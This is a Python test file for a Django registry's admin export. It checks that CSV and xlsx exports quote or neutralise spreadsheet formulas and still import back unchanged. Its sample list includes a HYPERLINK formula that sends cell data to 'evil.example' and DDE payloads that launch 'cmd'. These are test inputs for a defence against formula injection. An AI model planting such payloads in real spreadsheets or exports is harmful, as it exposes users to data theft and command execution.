"""The admin's exports never carry a formula (issue 12 §5, CSV/formula injection): a text that a
spreadsheet would run — leading =, +, -, @, tab or CR — is a text cell in xlsx (its exact text)
and gets a leading apostrophe in CSV, which the import takes off again, so an export still
imports back unchanged. docs/import-formats.md §2, docs/open-data.md."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse

from registry.imports import registry_import_file
from registry.models import Institution
from tests.factories import InstitutionFactory

pytestmark = pytest.mark.django_db

FORMULAE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "'=1",  # already quoted: quoted once more, so that the import restores it exactly
    "''",
]
PLAIN = ["重庆示例正信律师事务所", "#REF!", "1+1", "a=b", "'引号开头", "", "-"]


def export(client, model, fmt: str) -> bytes:
    model_admin = admin.site._registry[model]
    titles = [f().get_title() for f in model_admin.get_export_formats()]
    resource = model_admin.get_export_resource_classes(None)[0]
    data = {"format": str(titles.index(fmt)), "resource": "0"}
    for name in resource().get_export_order():
        data[f"{resource.__name__.lower()}_{name}"] = "on"
    response = client.post(reverse(f"admin:registry_{model._meta.model_name}_export"), data)
    assert response.status_code == 200
    return response.content


@pytest.fixture
def institutions():
    """One institution per text, in its name (when not empty) and its address."""
    return [
        InstitutionFactory(
            name=text or "名称", address=text, size=n, founded_on=dt.date(2020, 1, 2)
        )
        for n, text in enumerate(FORMULAE + PLAIN)
    ]


def xlsx_rows(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def test_only_the_formats_that_import_back_are_offered(staff_client):
    formats = admin.site._registry[Institution].get_export_formats()
    assert [f().get_title() for f in formats] == ["csv", "xlsx"]


def test_xlsx_export_has_no_formula_and_keeps_the_exact_text(staff_client, institutions):
    rows = xlsx_rows(export(staff_client, Institution, "xlsx"))
    header = [c.value for c in rows[0]]
    name, address = header.index("机构名称"), header.index("地址")
    by_code = {row[0].value: row for row in rows[1:]}
    assert len(by_code) == len(institutions)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    for institution in institutions:
        row = by_code[institution.credit_code]
        # XML reads a carriage return as a line feed; everything else is exact.
        expected = institution.name.replace("\r", "\n")
        if expected.startswith("'") and expected[1:2] in ("=", "'"):
            expected = "'" + expected  # the one case the apostrophe rule has to quote in xlsx
        assert row[name].value == expected
        assert row[name].data_type == "s"
        if institution.name[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert row[name].quotePrefix, institution.name  # Excel keeps it text when edited
        assert row[address].value == (expected if institution.address else None)
    # Dates and numbers as the import reads them (the resources render text, as before).
    assert by_code[institutions[1].credit_code][header.index("成立日期")].value == "2020-01-02"
    assert by_code[institutions[1].credit_code][header.index("规模")].value == "1"


def test_csv_export_quotes_every_formula(staff_client, institutions):
    text = export(staff_client, Institution, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_code = {row["统一社会信用代码"]: row for row in rows}
    for institution in institutions:
        row = by_code[institution.credit_code]
        name = institution.name
        quoted = name[:1] in ("=", "+", "-", "@", "\t", "\r") or (
            name[:1] == "'" and name[1:2] in ("=", "'")
        )
        assert row["机构名称"] == ("'" + name if quoted else name), name
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formulae_imports_back_unchanged(staff_client, institutions, tmp_path, fmt):
    # The import strips each cell: a name with a leading tab or CR cannot come back as it was.
    Institution.objects.filter(name__regex=r"^\s").delete()
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(export(staff_client, Institution, fmt))
    result = registry_import_file(kind="institutions", path=path, dry_run=True)
    assert result.ok, [str(e) for e in result.errors]
    assert result.unchanged == result.rows == Institution.objects.count() == len(institutions) - 2


def test_a_control_character_does_not_break_the_xlsx_export(staff_client):
    institution = InstitutionFactory(name="甲\x01乙\x1f律师事务所")
    rows = xlsx_rows(export(staff_client, Institution, "xlsx"))
    names = [row[1].value for row in rows[1:]]
    assert names == ["甲\ufffd乙\ufffd律师事务所"]
    assert institution.credit_code in [row[0].value for row in rows]
